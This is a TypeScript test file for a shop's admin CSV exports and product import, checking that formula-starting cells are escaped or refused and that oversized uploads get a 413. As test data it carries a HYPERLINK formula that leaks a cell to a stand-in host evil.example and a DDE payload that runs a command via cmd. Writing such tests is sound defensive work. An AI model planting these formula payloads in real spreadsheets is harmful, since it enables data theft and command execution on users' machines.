// docs/security.md N4 for the tab exports and the products import: a cell a
// spreadsheet would run as a formula is exported with a leading apostrophe
// (products and customers, text staff and strangers typed), an imported cell
// that starts a formula without that apostrophe is refused by row and column
// and nothing is written, and one with it is stored as the text after it.
// The import's body is bounded: a declared length over its limit is refused
// before any of it is read.
import http from 'node:http';
import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_IMPORT_BYTES, productImportResponse } from '@/lib/contract/exports';
import { adminToken, call, closeDb, expectErrorShape, registerCustomer, sql, SHOP_URL } from './helpers';
import { expectShape } from '../api/helpers';

// Older than every seeded product: tests elsewhere that take the newest product (with its images) never get this bare one.
const OLDER_THAN_THE_CATALOGUE = new Date('2020-01-01T00:00:00Z');

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const FORMULA_START = /^[=+\-@\t\r]/;

let owner: Record<string, string>;
let product: { id: string; title: string };

const cellsOf = (text: string) => (parse(text) as string[][]).flat();

function importForm(csv: string, mode: 'dry_run' | 'apply'): FormData {
  const form = new FormData();
  form.append('mode', mode);
  form.append('file', new Blob([csv], { type: 'text/csv' }), 'products.csv');
  return form;
}

beforeAll(async () => {
  owner = { authorization: `Bearer ${await adminToken()}` };
  const marker = randomBytes(4).toString('hex');
  const title = `${HYPERLINK} ${marker}`;
  const [row] = await sql<{ id: string }>(
    `INSERT INTO "Product" (id, title, "priceCents", "createdAt", "updatedAt") VALUES ($1, $2, 900, $3, now()) RETURNING id`,
    [`sec${randomBytes(8).toString('hex')}`, title, OLDER_THAN_THE_CATALOGUE],
  );
  product = { id: row.id, title };
});

afterAll(closeDb);

describe('CSV exports of the tabs (docs/security.md N4)', () => {
  it('write a formula-starting title and customer name with a leading apostrophe, and no cell starts a formula', async () => {
    const products = await call('GET', '/api/admin/products.csv?search=evil.example', { headers: owner });
    expect(products.status).toBe(200);
    const productCells = cellsOf(products.text);
    expect(productCells).toContain(`'${product.title}`);
    expect(productCells.filter((c) => FORMULA_START.test(c))).toEqual([]);

    const customer = await registerCustomer('formula');
    await sql(`UPDATE "User" SET name = $1 WHERE id = $2`, ['@SUM(1+1)*cmd|" /C calc"!A0', customer.id]);
    const customers = await call('GET', `/api/admin/customers.csv?q=${encodeURIComponent(customer.email)}`, { headers: owner });
    const customerCells = cellsOf(customers.text);
    expect(customerCells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(customerCells.filter((c) => FORMULA_START.test(c))).toEqual([]);
  });
});

describe('the products import (docs/security.md N4)', () => {
  it('refuses a cell that starts a formula without the apostrophe, by row and column, and writes nothing', async () => {
    const csv = `id,description\r\n${product.id},"=HYPERLINK(""http://evil.example"",""x"")"\r\n`;
    const reply = await call('POST', '/api/admin/products/import', { headers: owner, body: importForm(csv, 'apply') });
    expect(reply.status, reply.text).toBe(200);
    const result = expectShape(productImportResponse, reply.body);
    expect(result.applied).toBe(0);
    expect(result.errors).toEqual([{ row: 2, column: 'description', message: expect.stringContaining('formula') }]);
    const [{ description }] = await sql<{ description: string }>(`SELECT description FROM "Product" WHERE id = $1`, [product.id]);
    expect(description).toBe('');
  });

  it("stores the text after the export's apostrophe, which the next export guards again", async () => {
    const exported = await call('GET', '/api/admin/products.csv?search=evil.example', { headers: owner });
    // The title goes back as exported, apostrophe and all; only the price is edited.
    const edited = exported.text.replace('"9.00"', '"9.50"');
    const reply = await call('POST', '/api/admin/products/import', { headers: owner, body: importForm(edited, 'apply') });
    const result = expectShape(productImportResponse, reply.body);
    expect(result.errors).toEqual([]);
    expect(result.changes.find((c) => c.id === product.id)?.changes).toEqual({ price: { from: '9.00', to: '9.50' } });
    const [{ title }] = await sql<{ title: string }>(`SELECT title FROM "Product" WHERE id = $1`, [product.id]);
    expect(title).toBe(product.title);
  });

  it('refuses a declared body over its limit before reading it (413)', async () => {
    const token = owner.authorization;
    const reply = await new Promise<{ status: number; body: unknown }>((resolve, reject) => {
      const req = http.request(`${SHOP_URL}/api/admin/products/import`, {
        method: 'POST',
        agent: false,
        headers: { authorization: token, 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(MAX_IMPORT_BYTES * 2) },
      });
      req.on('response', (res) => {
        let text = '';
        res.on('data', (c: Buffer) => (text += c.toString('utf8')));
        res.on('end', () => {
          req.destroy();
          resolve({ status: res.statusCode ?? 0, body: JSON.parse(text) });
        });
      });
      req.on('error', reject);
      req.write('--x\r\n');
    });
    expectErrorShape({ ...reply, headers: new Headers(), text: '' }, 413);
  });
});
